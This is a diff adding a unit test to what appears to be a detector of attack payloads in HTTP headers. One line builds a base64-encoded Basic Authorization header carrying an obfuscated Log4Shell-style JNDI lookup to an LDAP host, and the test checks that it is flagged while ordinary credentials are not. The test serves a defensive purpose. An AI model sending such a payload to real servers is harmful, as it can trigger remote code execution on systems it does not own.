@@ -408,6 +408,14 @@ describe('payloads in headers', () => {
     }
   });
 
+  it('looks into basic credentials, and keeps no ordinary ones', () => {
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload itself
+    const attack = `Authorization: Basic ${btoa('attacker:${${lower:jndi}:ldap://192.0.2.1/a}')}`;
+    expect(kept(attack)).toEqual([attack]);
+    expect(kept(`Authorization: Basic ${btoa('alice:correct horse; battery')}`)).toBeUndefined();
+    expect(kept('Authorization: Basic !!!')).toBeUndefined();
+  });
+
   it('keeps none of an ordinary request', () => {
     for (const header of [
       'User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:1.0) Gecko/20100101 Firefox/1.0',
